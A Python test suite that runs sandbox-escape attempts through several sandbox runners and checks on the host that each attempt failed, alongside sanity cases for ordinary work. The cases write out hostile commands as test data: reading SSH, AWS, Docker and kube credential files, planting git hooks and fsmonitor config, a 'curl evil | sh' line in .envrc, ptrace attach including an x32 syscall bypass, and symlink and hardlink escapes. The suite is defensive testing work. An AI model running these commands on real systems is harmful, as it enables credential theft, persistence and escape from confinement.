#!/usr/bin/env python3
"""The sandbox attack suite: real commands run through a sandbox runner, and each case
checks on the host that the attack had no effect (or, for sanity cases, that ordinary
work still succeeds).

Runners: `warden` (`warden exec --sandbox workspace-write`), `codex` (`codex sandbox -c
sandbox_mode="workspace-write"`) and `srt` (Anthropic's sandbox-runtime). The same cases run against
each, so scores compare directly (scripts/compare-sandboxes.sh).

Usage: suite.py --runner warden --bin PATH [--json OUT] [--only NAME]...
Exit status 0 when every case passes.
"""

import argparse
import ctypes
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

SECRET = "WARDEN-SECRET-" + secrets.token_hex(8)


class Host:
    """Everything the cases set up on the host: a fake home with credentials, a git
    workspace, files outside it, listeners and a victim process."""

    def __init__(self, base: Path):
        self.base = base
        self.home = base / "home"
        self.ws = base / "ws"
        self.outside = base / "outside"
        for d in (self.home, self.ws, self.outside):
            d.mkdir(parents=True)
        self._credentials()
        self._workspace()
        (self.outside / "file.txt").write_text("original\n")
        (self.outside / "dir").mkdir()
        (self.ws / "planted-link").symlink_to(self.outside)
        self.hits = {}
        self._listeners()
        self.shm = Path("/dev/shm") / f"warden-attack-{os.getpid()}"
        self.shm.write_text(SECRET)
        self.victim = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)"],
            env={"PATH": os.environ["PATH"], "VICTIM_SECRET": SECRET},
        )

    def _credentials(self):
        for rel in (
            ".ssh/id_ed25519",
            ".aws/credentials",
            ".docker/config.json",
            ".config/gcloud/credentials.db",
            ".kube/config",
            ".netrc",
        ):
            path = self.home / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(SECRET + "\n")
        (self.home / ".bashrc").write_text("# shell start-up\n")

    def _workspace(self):
        run = lambda *a: subprocess.run(a, cwd=self.ws, check=True, capture_output=True)
        run("git", "init", "-q")
        run("git", "config", "user.email", "t@example.com")
        run("git", "config", "user.name", "t")
        (self.ws / "README").write_text("hello\n")
        run("git", "add", "README")
        run("git", "commit", "-qm", "init")
        (self.ws / ".envrc").write_text("# direnv\n")
        (self.ws / ".vscode").mkdir()
        (self.ws / ".vscode/tasks.json").write_text("{}\n")
        # A submodule: its git dir (with its own hooks) lives inside .git/modules.
        sub = self.ws / "sub"
        real = self.ws / ".git/modules/sub"
        (real / "hooks").mkdir(parents=True)
        (real / "config").write_text("[core]\n")
        (real / "HEAD").write_text("ref: refs/heads/main\n")
        sub.mkdir()
        (sub / ".git").write_text("gitdir: ../.git/modules/sub\n")

    def _count(self, name):
        self.hits[name] = self.hits.get(name, 0) + 1

    def _listeners(self):
        def listen(family, kind, address, name):
            """Bind a socket and count every connection or datagram it receives."""
            s = socket.socket(family, kind)
            s.bind(address)
            if kind == socket.SOCK_STREAM:
                s.listen(16)

            def loop():
                while True:
                    try:
                        if kind == socket.SOCK_STREAM:
                            s.accept()[0].close()
                        else:
                            s.recvfrom(100)
                    except OSError:
                        return
                    self._count(name)

            threading.Thread(target=loop, daemon=True).start()
            return s.getsockname()[1] if family != socket.AF_UNIX else None

        tcp = lambda family, addr, name: listen(family, socket.SOCK_STREAM, (addr, 0), name)
        udp = lambda family, addr, name: listen(family, socket.SOCK_DGRAM, (addr, 0), name)
        unix = lambda address, name: listen(socket.AF_UNIX, socket.SOCK_STREAM, address, name)

        self.tcp4 = tcp(socket.AF_INET, "127.0.0.1", "tcp4")
        self.tcp6 = tcp(socket.AF_INET6, "::1", "tcp6")
        self.udp4 = udp(socket.AF_INET, "127.0.0.1", "udp4")
        self.udp6 = udp(socket.AF_INET6, "::1", "udp6")
        self.unix_path = str(self.base / "host.sock")
        unix(self.unix_path, "unix")
        self.abstract = f"warden-attack-{os.getpid()}"
        unix("\0" + self.abstract, "abstract")

    def victim_state(self):
        status = Path(f"/proc/{self.victim.pid}/status").read_text()
        fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
        return fields.get("State", "").strip(), fields.get("TracerPid", "0").strip()

    def close(self):
        self.victim.kill()
        self.victim.wait()
        self.shm.unlink(missing_ok=True)


class Result:
    def __init__(self, proc):
        self.rc = proc.returncode
        self.stdout = proc.stdout
        self.stderr = proc.stderr

    @property
    def output(self):
        return self.stdout + self.stderr

    def leaked(self):
        return SECRET in self.output


def cases(h: Host):
    """(name, category, script, check). A check returns True when the case passes."""
    out = h.outside
    unchanged = lambda: (out / "file.txt").read_text() == "original\n"
    py = "python3 -c "
    pid = h.victim.pid
    yield ("dotdot-write", "write outside", "echo x > ../outside/dotdot.txt",
           lambda r: not (out / "dotdot.txt").exists())
    yield ("absolute-write", "write outside", f"echo x > {out}/abs.txt",
           lambda r: not (out / "abs.txt").exists())
    yield ("append-outside", "write outside", f"echo evil >> {out}/file.txt", lambda r: unchanged())
    yield ("planted-symlink", "write outside", "echo x > planted-link/via-link.txt",
           lambda r: not (out / "via-link.txt").exists())
    yield ("created-symlink", "write outside", f"ln -s {out} mylink; echo x > mylink/made.txt",
           lambda r: not (out / "made.txt").exists())
    yield ("hardlink-outside", "write outside", f"ln {out}/file.txt hl && echo evil >> hl",
           lambda r: unchanged())
    yield ("rename-into-workspace", "write outside", f"mv {out}/file.txt ./stolen.txt",
           lambda r: (out / "file.txt").exists())
    yield ("chmod-outside", "write outside", f"chmod 777 {out}/file.txt",
           lambda r: (out / "file.txt").stat().st_mode & 0o777 != 0o777)
    yield ("truncate-outside", "write outside", f"truncate -s 0 {out}/file.txt", lambda r: unchanged())
    yield ("mkdir-outside", "write outside", f"mkdir {out}/newdir",
           lambda r: not (out / "newdir").exists())
    yield ("git-hook", "protected path", "echo 'touch pwned' > .git/hooks/pre-commit",
           lambda r: not (h.ws / ".git/hooks/pre-commit").exists())
    yield ("git-config", "protected path", "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config",
           lambda r: "fsmonitor" not in (h.ws / ".git/config").read_text())
    yield ("git-config-replace", "protected path",
           "cp .git/config c && echo '[alias] x = !sh' >> c && mv c .git/config",
           lambda r: "alias" not in (h.ws / ".git/config").read_text())
    yield ("rename-dot-git", "protected path",
           "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
           lambda r: (h.ws / ".git/HEAD").exists() and not (h.ws / ".git/hooks/pre-commit").exists())
    yield ("rename-hooks", "protected path",
           "mv .git/hooks .git/hooks-old; mkdir .git/hooks; echo evil > .git/hooks/pre-commit",
           lambda r: not (h.ws / ".git/hooks/pre-commit").exists())
    yield ("hardlink-git-config", "protected path", "ln .git/config cfg && echo evil >> cfg",
           lambda r: "evil" not in (h.ws / ".git/config").read_text())
    yield ("symlink-to-hooks", "protected path", "ln -s .git/hooks hk && echo evil > hk/post-checkout",
           lambda r: not (h.ws / ".git/hooks/post-checkout").exists())
    yield ("submodule-hooks", "protected path", "echo evil > sub/../.git/modules/sub/hooks/pre-commit",
           lambda r: not (h.ws / ".git/modules/sub/hooks/pre-commit").exists())
    yield ("envrc", "protected path", "echo 'curl evil | sh' >> .envrc",
           lambda r: "curl" not in (h.ws / ".envrc").read_text())
    yield ("vscode-tasks", "protected path", "echo evil > .vscode/tasks.json",
           lambda r: (h.ws / ".vscode/tasks.json").read_text() == "{}\n")
    yield ("ssh-key", "credentials", "cat ~/.ssh/id_ed25519", lambda r: not r.leaked())
    yield ("aws-credentials", "credentials", "cat ~/.aws/credentials", lambda r: not r.leaked())
    yield ("docker-config", "credentials", "cat ~/.docker/config.json", lambda r: not r.leaked())
    yield ("gcloud-kube-netrc", "credentials",
           "cat ~/.config/gcloud/credentials.db ~/.kube/config ~/.netrc", lambda r: not r.leaked())
    yield ("credential-symlink", "credentials", "ln -s ~/.ssh/id_ed25519 k && cat k",
           lambda r: not r.leaked())
    yield ("credential-hardlink", "credentials", "ln ~/.ssh/id_ed25519 k2 && cat k2",
           lambda r: not r.leaked())
    yield ("credential-proc-root", "credentials", "cat /proc/self/root$HOME/.ssh/id_ed25519",
           lambda r: not r.leaked())
    yield ("credential-copy", "credentials", "cp -r ~/.aws ./aws-copy; cat aws-copy/credentials",
           lambda r: not r.leaked())
    yield ("env-api-keys", "environment", "env", lambda r: not r.leaked())
    yield ("env-injection", "environment", "env | grep -E '^(BASH_ENV|PYTHONSTARTUP)=' || true",
           lambda r: "BASH_ENV" not in r.stdout and "PYTHONSTARTUP" not in r.stdout)
    yield ("proc-environ", "processes", f"cat /proc/{pid}/environ", lambda r: not r.leaked())
    yield ("ptrace-attach", "processes",
           py + f"'import ctypes; l=ctypes.CDLL(None); print(l.ptrace(16,{pid},0,0))'",
           lambda r: h.victim_state()[1] == "0")
    # The x32 ABI reaches the same kernel code under other numbers (ptrace is 521).
    yield ("ptrace-attach-x32", "processes",
           py + f"'import ctypes; l=ctypes.CDLL(None); print(l.syscall(0x40000000|521,16,{pid},0,0))'",
           lambda r: h.victim_state()[1] == "0")
    yield ("proc-mem-write", "processes",
           py + f"'open(\"/proc/{pid}/mem\",\"wb\").write(b\"x\")'",
           lambda r: h.victim.poll() is None and "Traceback" in r.stderr)
    yield ("signal-outside", "processes", f"kill -STOP {pid}",
           lambda r: not h.victim_state()[0].startswith("T"))
    yield ("tcp4-loopback", "network",
           py + f"'import socket; socket.create_connection((\"127.0.0.1\",{h.tcp4}),2)'",
           lambda r: h.hits.get("tcp4", 0) == 0)
    yield ("tcp6-loopback", "network",
           py + f"'import socket; socket.create_connection((\"::1\",{h.tcp6}),2)'",
           lambda r: h.hits.get("tcp6", 0) == 0)
    yield ("udp4-loopback", "network",
           py + f"'import socket; socket.socket(2,2).sendto(b\"x\",(\"127.0.0.1\",{h.udp4}))'",
           lambda r: time.sleep(0.2) or h.hits.get("udp4", 0) == 0)
    yield ("udp6-loopback", "network",
           py + f"'import socket; socket.socket(10,2).sendto(b\"x\",(\"::1\",{h.udp6}))'",
           lambda r: time.sleep(0.2) or h.hits.get("udp6", 0) == 0)
    yield ("host-unix-socket", "network",
           py + f"'import socket; s=socket.socket(1); s.connect(\"{h.unix_path}\")'",
           lambda r: h.hits.get("unix", 0) == 0)
    yield ("abstract-unix-socket", "network",
           py + f"'import socket; s=socket.socket(1); s.connect(\"\\0{h.abstract}\")'",
           lambda r: h.hits.get("abstract", 0) == 0)
    yield ("raw-socket", "network", py + "'import socket; socket.socket(2,3,1)' && echo RAW-OK",
           lambda r: "RAW-OK" not in r.stdout)
    yield ("shm-read", "shared memory", f"cat {h.shm}", lambda r: not r.leaked())
    yield ("shm-write", "shared memory", f"echo evil > {h.shm}",
           lambda r: h.shm.read_text() == SECRET)
    yield ("sanity-workspace-write", "sanity", "echo ok > made.txt && cat made.txt",
           lambda r: r.rc == 0 and (h.ws / "made.txt").exists())
    yield ("sanity-tmp", "sanity", "f=$(mktemp) && echo ok > $f && cat $f && rm $f",
           lambda r: r.rc == 0 and "ok" in r.stdout)
    yield ("sanity-git", "sanity",
           "git status --short && git add made.txt README && git commit -qm work && git log --oneline | wc -l",
           lambda r: r.rc == 0 and r.stdout.strip().endswith("2"))
    yield ("sanity-build", "sanity",
           "printf 'int main(){return 0;}' > m.c && cc -o m m.c && ./m && echo built",
           lambda r: r.rc == 0 and "built" in r.stdout)
    yield ("sanity-python-multiprocessing", "sanity",
           py + "'import multiprocessing as m; print(sum(m.Pool(2).map(abs,[-1,-2])))'",
           lambda r: r.rc == 0 and "3" in r.stdout)
    yield ("sanity-tmpfile", "sanity",
           py + "'import os; os.close(os.open(\"/tmp\", os.O_TMPFILE | os.O_RDWR)); print(\"tmpfile\")'",
           lambda r: r.rc == 0 and "tmpfile" in r.stdout)
    yield ("sanity-list-home", "sanity", "ls -la ~ > /dev/null && echo listed",
           lambda r: r.rc == 0 and "listed" in r.stdout)


def runner_argv(runner: str, binary: str, script: str, h: Host):
    if runner == "warden":
        return [binary, "exec", "--sandbox", "workspace-write", "--cwd", str(h.ws), "--",
                "sh", "-c", script]
    if runner == "codex":
        return [binary, "sandbox", "-c", 'sandbox_mode="workspace-write"', "--",
                "sh", "-c", script]
    if runner == "srt":
        return [binary, "-s", str(h.home / ".srt-settings.json"), "-c", script]
    raise SystemExit(f"unknown runner {runner}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--runner", required=True, choices=["warden", "codex", "srt"])
    parser.add_argument("--bin", required=True, help="the runner's executable")
    parser.add_argument("--base", help="scratch folder (default: under ~/.cache, not tmp)")
    parser.add_argument("--json", help="write results here")
    parser.add_argument("--only", action="append", default=[])
    args = parser.parse_args()
    base = Path(args.base or Path.home() / ".cache/warden-tests" / f"attacks-{os.getpid()}")
    if base.exists():
        shutil.rmtree(base)
    base.mkdir(parents=True)
    h = Host(base.resolve())
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(h.home),
        "LANG": "C.UTF-8",
        "OPENAI_API_KEY": "sk-proj-" + SECRET,
        "GITHUB_TOKEN": SECRET,
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "DATABASE_PASSWORD": SECRET,
        "BASH_ENV": str(h.outside / "evil.sh"),
        "PYTHONSTARTUP": str(h.outside / "evil.py"),
        "WARDEN_HOME": str(h.base / "warden-home"),
    }
    if args.runner == "srt":
        settings = {
            "network": {"allowedDomains": [], "deniedDomains": []},
            # srt's defaults, with the writable roots of Warden's workspace-write mode.
            "filesystem": {"denyRead": [], "allowWrite": [str(h.ws), "/tmp"], "denyWrite": []},
        }
        (h.home / ".srt-settings.json").write_text(json.dumps(settings))
    results = []
    try:
        for name, category, script, check in cases(h):
            if args.only and name not in args.only:
                continue
            proc = subprocess.run(runner_argv(args.runner, args.bin, script, h), cwd=h.ws, env=env,
                                  capture_output=True, text=True, timeout=120)
            result = Result(proc)
            try:
                passed = bool(check(result))
            except Exception as e:  # a check that cannot inspect the host counts as a failure
                passed = False
                result.stderr += f"\n[check error: {e}]"
            results.append({"name": name, "category": category, "passed": passed,
                            "rc": result.rc, "stderr": result.stderr[-400:]})
            mark = "PASS" if passed else "FAIL"
            print(f"{mark} {category:15} {name}", flush=True)
            if not passed:
                print("     " + result.output.strip().replace("\n", "\n     ")[-800:], flush=True)
            if h.victim_state()[0].startswith("T"):
                os.kill(h.victim.pid, signal.SIGCONT)
    finally:
        h.close()
    passed = sum(r["passed"] for r in results)
    print(f"\n{args.runner}: {passed}/{len(results)} cases passed")
    if args.json:
        Path(args.json).write_text(json.dumps({"runner": args.runner, "results": results}, indent=1))
    shutil.rmtree(base, ignore_errors=True)
    sys.exit(0 if passed == len(results) else 1)


if __name__ == "__main__":
    main()
